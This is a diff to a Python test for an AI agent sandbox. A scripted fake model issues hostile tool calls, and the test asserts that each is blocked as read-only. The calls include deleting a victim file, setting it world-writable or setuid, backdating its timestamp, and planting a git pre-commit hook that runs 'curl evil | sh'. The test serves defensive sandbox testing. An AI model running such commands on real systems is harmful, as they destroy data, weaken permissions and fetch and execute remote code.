@@ -89,8 +89,11 @@ def test_full_auto_cannot_write_outside_nor_into_git(
         [
             ("inside", "code", "open('kept.txt', 'w').write('from the kernel')"),
             ("outside", "code", f"open({str(escaped)!r}, 'w').write('escaped')"),
+            ("meta", "code", f"import os\nos.chmod({str(victim)!r}, 0o4777)"),
         ],
     )
+    victim.chmod(0o600)
+    before = victim.stat()
     hook = ws / ".git" / "hooks" / "pre-commit"
     patch = "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+curl evil | sh\n*** End Patch"
     scripted_server.load(
@@ -102,12 +105,14 @@ def test_full_auto_cannot_write_outside_nor_into_git(
                     shell("pipe", f"printf 'rm {victim}' | sh"),
                     shell("awk", f'awk \'BEGIN {{ print "x" > "{victim}" }}\''),
                     shell("rm", f"rm -f {victim}"),
+                    shell("meta", f"chmod 777 {victim}; touch -d 2001-01-01 {victim}"),
                     shell("hook", f"echo 'curl evil | sh' > {hook}"),
                     {"name": "apply_patch", "arguments": {"patch": patch}, "id": "patch"},
                     shell("inside", "echo made > made.txt && mktemp"),
                 ]
             },
             {"calls": [{"name": "run_cells", "arguments": {"all": True}, "id": "cells"}]},
+            {"calls": [{"name": "run_cells", "arguments": {"cell_ids": ["meta"]}, "id": "m"}]},
             {"calls": [shell("orphans", ORPHANS, timeout=3)]},
             {"text": "done"},
         ]
@@ -130,21 +135,24 @@ def test_full_auto_cannot_write_outside_nor_into_git(
     assert result.returncode == 1, result.stdout + result.stderr  # a cell still fails
     assert time.monotonic() - started < 60
     assert victim.read_text() == "keep me\n"
+    after = victim.stat()
+    assert (after.st_mode, after.st_mtime) == (before.st_mode, before.st_mtime)
     assert sorted(p.name for p in (base / "outside").iterdir()) == ["victim.txt"]
     assert not hook.exists()
     assert (ws / "made.txt").read_text() == "made\n"
     assert (ws / "kept.txt").read_text() == "from the kernel"
     out = outputs(scripted_server)
-    for call_id in ("bash", "python", "pipe", "awk", "rm"):
-        assert "Permission denied" in out[call_id], (call_id, out[call_id])
+    for call_id in ("bash", "python", "pipe", "awk", "rm", "meta"):
+        assert "Read-only file system" in out[call_id], (call_id, out[call_id])
         assert not out[call_id].startswith("exit 0"), call_id
     assert "Read-only file system" in out["hook"]
     assert "read-only for the agent" in out["patch"]
     assert out["inside"].startswith("exit 0")
     assert out["orphans"].startswith("timed out after 3 s (killed, with every process")
     assert running("sleep 45.7") == [] and running("sleep 45.8") == []
-    cell = cells_by_id(path)["outside"]["outputs"][-1]
-    assert (cell["ename"], "Permission denied" in cell["evalue"]) == ("PermissionError", True)
+    for cell_id in ("outside", "meta"):
+        cell = cells_by_id(path)[cell_id]["outputs"][-1]
+        assert (cell["ename"], "Read-only file system" in cell["evalue"]) == ("OSError", True)
     assert "Event loop is closed" not in result.stderr + result.stdout
     data = json.loads(report.read_text())
     assert data["settings"]["sandbox"] is True
